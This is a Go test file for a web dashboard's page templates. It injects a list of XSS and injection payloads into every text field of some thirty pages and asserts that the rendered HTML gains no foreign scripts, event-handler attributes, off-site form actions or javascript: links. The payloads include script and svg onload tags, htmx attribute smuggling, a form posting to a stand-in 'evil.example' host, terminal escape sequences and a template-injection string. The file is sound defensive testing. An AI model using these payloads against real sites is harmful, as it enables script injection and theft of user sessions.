package web_test

import (
	"reflect"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/a-h/templ"
	"golang.org/x/net/html"

	"signalbox/web"
)

var payloads = []string{
	`"><script>alert(1)</script><img src=x onerror=alert(1)>`,
	`' onmouseover='alert(1)' hx-post='/gates/x/decisions' hx-trigger='load' style='position:fixed`,
	`javascript:alert(1)//`,
	`</textarea></template><form action="//evil.example" method=post><hx-partial hx-target="#gate-panel">x</hx-partial>`,
	"\x1b]8;;javascript:alert(1)\x07click\x1b]8;;\x07\x1b[31m</code><svg onload=alert(1)>",
	"{{constructor.constructor('alert(1)')()}}<!--\u202e-->",
}

// structural fields choose branches; they are poisoned in a second pass only, so that both are covered.
var structural = regexp.MustCompile(`^(State|RunState|LastRunState|Kind|Verdict|Mode|Status|EndedFrom|GateKind|Theme|GateID|RunID|TaskID|ID|Actor|ActorKind)$`)

func poison(v reflect.Value, payload string, all bool, field string) {
	switch v.Kind() {
	case reflect.String:
		if field == "Class" || field == "Tone" {
			return // set by this package alone
		}
		if v.CanSet() && v.String() != "" && (all || !structural.MatchString(field)) {
			v.SetString(payload)
		}
	case reflect.Struct:
		if v.Type() == reflect.TypeFor[time.Time]() {
			return
		}
		for i := range v.NumField() {
			poison(v.Field(i), payload, all, v.Type().Field(i).Name)
		}
	case reflect.Slice:
		for i := range v.Len() {
			poison(v.Index(i), payload, all, field)
		}
	case reflect.Pointer:
		if !v.IsNil() {
			poison(v.Elem(), payload, all, field)
		}
	case reflect.Map:
		for _, k := range v.MapKeys() {
			item := v.MapIndex(k)
			switch {
			case item.Kind() == reflect.String:
				v.SetMapIndex(k, reflect.ValueOf(payload))
			case item.Kind() == reflect.Interface && item.Elem().Kind() == reflect.String:
				v.SetMapIndex(k, reflect.ValueOf(payload))
			case item.Kind() == reflect.Interface && item.Elem().Kind() == reflect.Map:
				poison(item.Elem(), payload, all, field)
			case item.Kind() == reflect.Interface && item.Elem().Type() == reflect.TypeFor[[]any]():
				v.SetMapIndex(k, reflect.ValueOf([]any{payload}))
			}
		}
	}
}

func bad[T any](data T, page func(T) templ.Component, payload string, all bool) templ.Component {
	poison(reflect.ValueOf(&data).Elem(), payload, all, "")
	return page(data)
}

func hostilePages(t *testing.T, payload string, all bool) map[string]templ.Component {
	stale, budget := staleGate(t), budgetGate()
	api := sampleAPI()
	return map[string]templ.Component{
		"inbox":        bad(sampleInbox(), web.InboxPage, payload, all),
		"tasks":        bad(sampleTasks(), web.TasksPage, payload, all),
		"task":         bad(sampleTask(), web.TaskPage, payload, all),
		"runs":         bad(web.RunsPageData{Shell: shell(), Rows: sampleRows()}, web.RunsPage, payload, all),
		"bulk":         bad(bulkQuestion(), web.BulkCancelPage, payload, all),
		"bulk turns":   bad(bulkTurnsAnswer(), web.BulkTurnsPage, payload, all),
		"bulk result":  bad(bulkAnswer(), web.BulkCancelPage, payload, all),
		"run":          bad(sampleRunPage(), web.RunPage, payload, all),
		"run failed":   bad(failedRun(), web.RunPage, payload, all),
		"run succeeds": bad(succeededRun(), web.RunPage, payload, all),
		"run live":     bad(web.RunLiveData{Panel: web.RunPanelData{Run: sampleRun(), Now: now}, Facts: sampleFacts(), Rows: sampleTimeline(), Stage: "x"}, web.RunLive, payload, all),
		"gate":         bad(sampleGatePage(t), web.GatePage, payload, all),
		"gate stale":   bad(stale, web.GatePage, payload, all),
		"gate plan":    bad(samplePlanGate(), web.GatePage, payload, all),
		"gate budget":  bad(budget, web.GatePage, payload, all),
		"reconcile":    bad(reconcileGate(), web.GatePage, payload, all),
		"pull":         bad(web.PullPageData{Shell: shell(), ID: "7", Title: "x", Body: "x", State: "OPEN", Repository: "x", Branch: "x", Base: "x", Head: "x", Author: "x", RunID: "x", Diff: sampleDiff(t), MayMerge: true, Checks: []web.CheckView{{Name: "x", Text: "x"}}, IdempotencyKey: "x", Error: "x"}, web.PullPage, payload, all),
		"repositories": bad(sampleRepositories(), web.RepositoriesPage, payload, all),
		"workers":      bad(sampleWorkers(), web.WorkersPage, payload, all),
		"signed out":   bad(web.SignedOutPageData{Shell: web.Shell{Now: now}, Provider: "x"}, web.SignedOutPage, payload, all),
		"sessions":     bad(sampleSessions(), web.SessionsPage, payload, all),
		"tokens":       bad(sampleTokens(), web.TokensPage, payload, all),
		"people":       bad(samplePeople(), web.PeoplePage, payload, all),
		"person":       bad(samplePerson(), web.PersonPage, payload, all),
		"providers":    bad(sampleProviders(), web.ProvidersPage, payload, all),
		"all tokens":   bad(sampleAllTokens(), web.AllTokensPage, payload, all),
		"credentials":  bad(sampleCredentials(), web.CredentialsPage, payload, all),
		"api":          bad(api, web.APIReferencePage, payload, all),
		"gate_split":   bad(sampleSplitGate(t), web.GatePage, payload, all),
		"gate_file":    bad(sampleGateFile(t), web.GateFilePage, payload, all),
		"stop":         bad(web.StopPageData{Shell: shell(), Run: sampleRows()[1], Ladder: web.Ladder{By: "x", Reason: "x", Asked: ago(1), Forced: true, Ended: ago(1), ForcedBy: "x"}, Reason: "x", Error: "x", IdempotencyKey: "x"}, web.StopPage, payload, all),
		"cancel":       bad(web.CancelPageData{Shell: shell(), Run: sampleRows()[1], Stays: []string{"x"}, Goes: []string{"x"}, External: []string{"x"}, Reason: "x", Error: "x", IdempotencyKey: "x"}, web.CancelPage, payload, all),
		"login":        bad(web.LoginPageData{Shell: web.Shell{Now: now}, Happened: "x", Failed: "x", RequestID: "x", ReturnTo: "x", Providers: []web.LoginProvider{{ID: "x", Name: "x"}}, DevPeople: []web.DevPerson{{Name: "x", Roles: "x"}}}, web.LoginPage, payload, all),
		"error":        bad(web.ErrorPageData{Shell: shell(), Status: 403, Sentence: "x", Missing: "x", GrantedBy: "x", RequestID: "x", RetryURL: "x", Back: &web.Link{Text: "x", Href: "x"}}, web.ErrorPage, payload, all),
	}
}

// TestHostileTextStaysText puts attacks into every text of every page: no element, attribute or address comes of it
// (security: browser rows B4, B5, B6).
func TestHostileTextStaysText(t *testing.T) {
	t.Parallel()
	for _, payload := range payloads {
		for _, all := range []bool{false, true} {
			for name, page := range hostilePages(t, payload, all) {
				doc := parse(t, render(t, page))
				for n := range doc.Descendants() {
					if n.Type == html.CommentNode {
						t.Errorf("%s: a comment: %q", name, n.Data)
					}
					if n.Type != html.ElementNode {
						continue
					}
					checkElement(t, name, n)
				}
			}
		}
	}
}

func checkElement(t *testing.T, page string, n *html.Node) {
	t.Helper()
	src := attr(n, "src")
	switch n.Data {
	case "script":
		if !strings.HasPrefix(src, "/static/") || n.FirstChild != nil {
			t.Errorf("%s: a script that is not ours: src %q", page, src)
		}
	case "img":
		if !strings.HasPrefix(src, "/static/") {
			t.Errorf("%s: an image from %q", page, src)
		}
	case "iframe", "object", "embed", "base", "style":
		t.Errorf("%s: element %s", page, n.Data)
	}
	for _, a := range n.Attr {
		switch {
		case strings.HasPrefix(a.Key, "on"), a.Key == "style", a.Key == "srcdoc", a.Key == "formaction":
			t.Errorf("%s: attribute %s on %s", page, a.Key, n.Data)
		case a.Key == "hx-post" && !strings.HasPrefix(a.Val, "/gates/"), a.Key == "hx-trigger", a.Key == "hx-get" && !strings.HasPrefix(a.Val, "/f/gates/"):
			t.Errorf("%s: attribute %s=%q", page, a.Key, a.Val)
		case a.Key == "href" || a.Key == "action":
			low := strings.ToLower(strings.TrimSpace(a.Val))
			if strings.HasPrefix(low, "javascript:") || strings.HasPrefix(low, "data:") || strings.HasPrefix(low, "//") {
				t.Errorf("%s: %s=%q", page, a.Key, a.Val)
			}
			if a.Key == "action" && !strings.HasPrefix(low, "/") {
				t.Errorf("%s: a form to %q", page, a.Val)
			}
		case a.Key == "class" && n.Data == "span" && strings.ContainsAny(a.Val, `<>"'`):
			t.Errorf("%s: class %q", page, a.Val)
		}
	}
}

func parse(t *testing.T, text string) *html.Node {
	t.Helper()
	// A fragment of a stream is converted by htmx into templates; here it is read as a body.
	doc, err := html.Parse(strings.NewReader(text))
	if err != nil {
		t.Fatal(err)
	}
	return doc
}

func attr(n *html.Node, key string) string {
	for _, a := range n.Attr {
		if a.Key == key {
			return a.Val
		}
	}
	return ""
}

func has(n *html.Node, key string) bool {
	return slices.ContainsFunc(n.Attr, func(a html.Attribute) bool { return a.Key == key })
}
